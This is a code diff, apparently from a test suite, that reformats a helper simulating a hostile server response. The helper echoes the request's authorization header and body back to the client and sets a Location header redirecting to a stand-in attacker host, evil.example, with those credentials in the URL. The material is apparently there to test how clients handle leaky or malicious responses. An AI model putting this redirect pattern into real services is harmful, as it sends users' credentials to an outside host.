@@ -187,7 +187,9 @@ def _echo(case: Case) -> Say:
 
     def say(request: Request, document: Any) -> Answer:
         held = request.headers.get("authorization", "") + " " + request.body.decode()[:500]
-        told = {**document, key: f"{words} {held}", "detail": held, held: held}
-        return Answer(status, _json(told), [("Location", f"http://evil.example/{held[:200]}"), ("Warning", held[:200])])
+        changed = {**document, key: f"{words} {held}", "detail": held, held: held}
+        return Answer(
+            status, _json(changed), [("Location", f"http://evil.example/{held[:200]}"), ("Warning", held[:200])]
+        )
 
     return say
